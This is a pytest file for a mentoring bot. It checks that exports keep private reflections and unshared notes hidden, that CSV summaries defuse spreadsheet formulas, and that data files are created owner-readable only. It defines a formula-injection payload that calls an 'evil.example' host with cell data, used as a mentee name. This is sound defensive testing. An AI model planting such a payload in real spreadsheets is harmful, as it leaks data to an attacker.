"""What leaves the database for coordinators keeps the pair's confidences and cannot attack
them: written as the attacks an audit tried."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest
from sqlalchemy import text

from bot.core.replies import Actor
from tests.support.bot import PairSpec, add_pair, add_program, answer_a_reflection, make_core

ADA = Actor("console", "ada", "Ada")
CASEY = Actor("console", "casey", "Casey")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Dee")'


@pytest.fixture
def pair(db_url, clock):
    core = make_core(db_url, clock)
    program = add_program(core)
    add_pair(core, program, PairSpec("ada", "dee", cohort="+Fall", mentee_name=HYPERLINK))
    return core


def test_export_holds_a_reflections_words_only_where_its_writer_allowed(cli, pair):
    """Answers go to the coordinators' digest; the export carries the scores, and the written
    answers only of the member who let the report quote them."""
    answer_a_reflection(pair, ADA, "PRIVATE-WORDS")
    exported = json.loads(cli("export").output)
    [answer] = exported["reflections"]
    assert (answer["score"], answer["worked"], answer["change"]) == (3, None, None)
    assert "PRIVATE-WORDS" not in json.dumps(exported)


def test_export_holds_no_unshared_next_steps(cli, pair):
    """Ada logs notes and next steps; the coordinator's export shows neither until Ada shares
    the entry."""
    pair.command(ADA, "log-meeting", "today 45m talked about burnout next: call my manager")
    exported = cli("export").output
    assert "burnout" not in exported and "call my manager" not in exported
    [meeting] = json.loads(exported)["meetings"]
    assert meeting["notes"] is None and meeting["next_steps"] is None
    pair.command(ADA, "log-meeting", "share 1")
    [meeting] = json.loads(cli("export").output)["meetings"]
    assert (meeting["notes"], meeting["next_steps"]) == ("talked about burnout", "call my manager")


def test_summary_csv_runs_no_formula_from_a_name_or_a_cohort(cli, pair):
    """A member named `=HYPERLINK(…)` and a cohort named `+Fall` reach the spreadsheet as text,
    from the command line and from `/mentoring-summary` alike."""
    from_cli = list(csv.DictReader(io.StringIO(cli("summary", "--format", "csv").output)))
    reply = pair.command(CASEY, "mentoring-summary")
    [attachment] = [a for a in reply.message.attachments if a.filename.endswith(".csv")]
    from_chat = list(csv.DictReader(io.StringIO(attachment.content.decode())))
    for rows in (from_cli, from_chat):
        [row] = rows
        assert row["mentee"] == "'" + HYPERLINK
        assert row["cohort"] == "'+Fall"
        assert row["mentor"] == "Ada"
        cells = [cell for row in rows for cell in row.values()]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def owner_only(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


def test_database_exports_and_charts_are_readable_by_their_owner_only(cli, tmp_path, monkeypatch):
    """With the usual umask (files world-readable), the database, its log, an export and a
    chart are still created for their owner only; a world-readable database is tightened."""
    os.umask(0o022)
    url = f"sqlite:///{tmp_path / 'fresh.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    assert cli("db", "upgrade").exit_code == 0
    cli("demo")
    database = tmp_path / "fresh.db"
    assert owner_only(database)
    cli("export", "-o", str(tmp_path / "all.json"))
    cli("summary", "--chart", str(tmp_path / "chart.png"))
    assert owner_only(tmp_path / "all.json") and owner_only(tmp_path / "chart.png")
    database.chmod(0o644)
    from storage.db import make_engine

    engine = make_engine(url)
    with engine.begin() as connection:  # a write leaves the log and shared memory behind
        connection.execute(text("UPDATE programs SET name = name"))
        for suffix in ("", "-wal", "-shm"):
            assert owner_only(Path(f"{database}{suffix}")), suffix
    engine.dispose()
